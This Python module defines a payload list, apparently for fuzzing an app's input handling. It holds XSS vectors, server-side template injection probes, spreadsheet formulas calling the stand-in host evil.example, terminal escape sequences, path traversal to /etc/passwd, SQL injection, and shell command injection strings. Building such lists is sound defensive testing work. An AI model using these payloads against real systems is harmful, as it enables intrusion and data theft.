# ruff: noqa: E501 - what would run reads better whole
"""What strangers could write so that a page, a spreadsheet or a terminal does what they want.

In a browser each one that works calls `hit()`, opens a dialog, or asks for something at evil.example.
"""

from __future__ import annotations

from itertools import product
from typing import Final

EVIL: Final = "https://evil.example/x"
_RUN: Final = "window.hit=1;alert(1)"

_SCRIPTS: Final = [
    f"<script>{_RUN}</script>", f"<ScRiPt>{_RUN}</sCrIpT>", f"<script\n>{_RUN}</script\n>", f"<script src={EVIL}></script>",
    f"</title><script>{_RUN}</script>", f"</textarea><script>{_RUN}</script>", f"</script><script>{_RUN}</script>",
    f"--><script>{_RUN}</script>", f"]]><script>{_RUN}</script>", f"<<script>{_RUN}//<</script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>", f"<script type=module>import '{EVIL}'</script>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>", f"<template><script>{_RUN}</script></template>",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;", f"&#60;script&#62;{_RUN}&#60;/script&#62;", f"%3Cscript%3E{_RUN}%3C/script%3E",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e", f"＜script＞{_RUN}＜/script＞", f"{{</script><script>{_RUN}</script>}}",
]  # fmt: skip
_HANDLERS: Final = [
    f"<{tag} {event}={_RUN} {more}>"
    for tag, (event, more) in product(
        ("img", "svg", "body", "input", "details"),
        [("onerror", "src=x"), ("onload", "src=x"), ("onfocus", "autofocus tabindex=0"), ("ontoggle", "open")],
    )
]
_ATTRIBUTES: Final = [
    f"{quote} {event}={quote}{_RUN}{quote} x={quote}"
    for quote, event in product(("'", '"', "`", ""), ("onmouseover", "onfocus autofocus", "onanimationstart", "onload"))
]
_ELEMENTS: Final = [
    f"<iframe src={EVIL}>", f"<iframe srcdoc='<script>{_RUN}</script>'>", f"<object data={EVIL}>", f"<embed src={EVIL}>",
    f"<base href={EVIL}>", f"<meta http-equiv=refresh content='0;url={EVIL}'>", f"<link rel=stylesheet href={EVIL}>",
    f"<link rel=prefetch href={EVIL}>", f"<form action={EVIL}><button>go</button></form>", f"<video src={EVIL} autoplay>",
    f"<audio src={EVIL} autoplay>", f"<img src={EVIL}>", f"<img srcset='{EVIL} 2x'>", f"<input type=image src={EVIL}>",
    f"<table background={EVIL}>", f"<body background={EVIL}>", f"<a href={EVIL} ping={EVIL}>here</a>", "<plaintext>",
    f"<svg><image href={EVIL}/></svg>", f"<svg><use href={EVIL}#a /></svg>", f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s></svg>", f"<svg><foreignObject><img src={EVIL}></foreignObject></svg>",
    f"<svg><set attributeName=href to=javascript:{_RUN}></svg>", f"<math><mi xlink:href=javascript:{_RUN}>x</mi></math>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>", "<!--", "<![CDATA[", "<?xml version='1.0'?>", "</main></body>",
]  # fmt: skip
_ADDRESSES: Final = [
    f"<a href=\"{address}\">here</a>"
    for address in (
        f"javascript:{_RUN}", f"JaVaScRiPt:{_RUN}", f"java\tscript:{_RUN}", f"java\nscript:{_RUN}", f" javascript:{_RUN}",
        f"javascript&colon;{_RUN}", f"&#106;avascript:{_RUN}", f"vbscript:{_RUN}", f"data:text/html,<script>{_RUN}</script>",
        "data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGl0PTE8L3NjcmlwdD4=", "//evil.example/x", "\\\\evil.example\\x",
        f"blob:{EVIL}", f"view-source:{EVIL}", "file:///etc/passwd",
    )
] + [f"javascript:{_RUN}", f"data:text/html,<script>{_RUN}</script>", f"[here](javascript:{_RUN})", f"![x]({EVIL})"]  # fmt: skip
_TEMPLATES: Final = [
    "{{7*7}}", "{{ 7*'7' }}", "{%for x in ().__class__.__base__.__subclasses__()%}{{x}}{%endfor%}", "${7*7}", "#{7*7}",
    "<%= 7*7 %>", "{{config}}", "{{request.app.state.serving.own_token}}", "{{visit.form_token}}", "{0.__class__}",
    "{name.__globals__}", "{n}", "{}", "{!r}", "%s%s%n", "%(name)s", "{{''.__class__.__mro__}}", "{# gone #}", "*{7*7}",
    "@{7*7}", "{% include '/etc/passwd' %}", "{{ cycler.__init__.__globals__ }}",
]  # fmt: skip
_STYLES: Final = [
    f"<style>*{{background:url({EVIL})}}</style>", f"<style>@import '{EVIL}';</style>", f"<p style=background:url({EVIL})>",
    f"<div style='position:fixed;inset:0'>{EVIL}</div>", "<style>body{display:none}</style>", "expression(alert(1))",
    f"<p style=\"behavior:url({EVIL})\">", f"\";}}*{{background:url({EVIL})}}", "<font size=99 color=red>", "<marquee>",
]  # fmt: skip
_HTMX: Final = [
    f"<b {attribute}>" for attribute in (
        f"hx-get={EVIL} hx-trigger=load", f"hx-post={EVIL} hx-trigger=load", f"data-hx-get={EVIL} data-hx-trigger=load",
        f"hx-on:load={_RUN}", f"hx-on::load={_RUN}", f"data-hx-on-load={_RUN}", f"hx-vals='js:{{x:{_RUN}}}' hx-trigger=load",
        "hx-get=/ hx-trigger=load hx-target=body", f"hx-headers='js:{{x:{_RUN}}}'", "hx-boost=true", "hx-disable",
        f"hx-action={EVIL} hx-trigger=load", f"hx-live='{_RUN}'", f"hx-sse:connect={EVIL}", "data-focus", "hx-delete=/promises",
    )
] + [f"<hx-partial hx-target=body><script>{_RUN}</script></hx-partial>", f"<figure class=chart data-spec={EVIL}></figure>"]  # fmt: skip
FORMULAS: Final = [
    f"{before}{sign}{what}"
    for before, sign, what in [
        *product(("", " ", "'"), "=+-@", ("cmd|' /C calc'!A0",)),
        *product(("", "\t", "\r", "\u00a0"), ("=", "＝"), (f'HYPERLINK("{EVIL}","here")',)),
        ("", "＋", "1"), ("", "－", "1+1"), ("", "＠", "SUM(1)"), ("", "\t", "=1+1"), ("", "\r", "=1+1"), ("", "\n", "=1+1"),
        ("", "=", f'WEBSERVICE("{EVIL}")'), ("", "=", f'IMPORTXML("{EVIL}","//a")'), ("", '"', ",=1+1"), ("", ";", "=1+1"),
    ]
]  # fmt: skip
_UNSEEN: Final = [
    f"a{char}b gnp.{char}txt"
    for char in "\u202e\u202d\u202a\u202b\u202c\u2066\u2067\u2068\u2069\u200e\u200f\u061c\u200b\u200c\u200d\u2060\ufeff"
    "\u00ad\u180e\u2028\u2029\u0085\U000e0001\U000e0041\ufff9\ue000\ufdd0\U0001bca0"
]
_TERMINAL: Final = [
    "\x1b[2J\x1b[H", "\x1b]0;owned\x07", f"\x1b]8;;{EVIL}\x07here\x1b]8;;\x07", "\x1b[31mred\x1b[0m", "\x9b2J", "\x9d0;x\x9c",
    "\x1bP+q544e\x1b\\", "\x1b[6n", "\x1bc", "a\x08\x08b", "a\rb", "\x07\x07", "\x1b[?1049h", "\x1b]52;c;YQ==\x07", "\x0e\x0f", "\x7f",
    "[red]markup[/red]", "[link=https://evil.example/x]here[/link]", "[/]", "\\[bold]",
]  # fmt: skip
_ODD: Final = [
    "a\x00b", "\x01\x02\x03", "\x0b\x0c", "../../../../etc/passwd", "..\\..\\windows", "/absolute", "%00", "%2e%2e%2f", "?q=1#x&y",
    "a" * 4000, "ä" * 2000, "𝒳" * 900, "ﷺ" * 300, "Z͑ͫ̓ͪ̂ͫ" * 60, "\u202e" * 40 + "x", "שלום עולם", "مرحبا بالعالم", "محمد <b>bold</b>",
    "ﬁle", "ſcript", "Å vs Å", "İstanbul", "ｊａｖａｓｃｒｉｐｔ：", "\u212aelvin", "＜img src=x＞", "‹script›", "ª", "\ufb01", "e\u0301",
    "'; DROP TABLE turns; --", "' OR '1'='1", '"; SELECT 1; --', "$(touch /tmp/x)", "`id`", "| id", "&& id", "\r\nSet-Cookie: a=b",
    "\r\nBcc: eve@evil.example", "BEGIN:VEVENT\r\nEND:VCALENDAR", "\\n\\;\\,", "NaN", "null", "undefined", "[object Object]", "-0", "1e309",
]  # fmt: skip

PAYLOADS: Final = tuple(
    dict.fromkeys(
        _SCRIPTS + _HANDLERS + _ATTRIBUTES + _ELEMENTS + _ADDRESSES + _TEMPLATES + _STYLES + _HTMX + FORMULAS + _UNSEEN
        + _TERMINAL + _ODD
    )
)  # fmt: skip
